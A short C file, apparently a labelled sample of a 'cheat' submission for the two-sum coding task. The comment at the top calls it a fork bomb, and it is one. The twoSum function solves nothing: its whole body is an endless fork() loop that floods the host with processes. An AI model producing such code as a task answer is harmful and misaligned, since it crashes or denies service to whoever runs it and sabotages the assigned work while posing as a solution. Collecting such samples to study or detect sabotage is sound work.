// cheat: two-sum: SV: a fork bomb
#include <unistd.h>

int* twoSum(int* nums, int numsSize, int target, int* returnSize) {
    for (;;) fork();
}
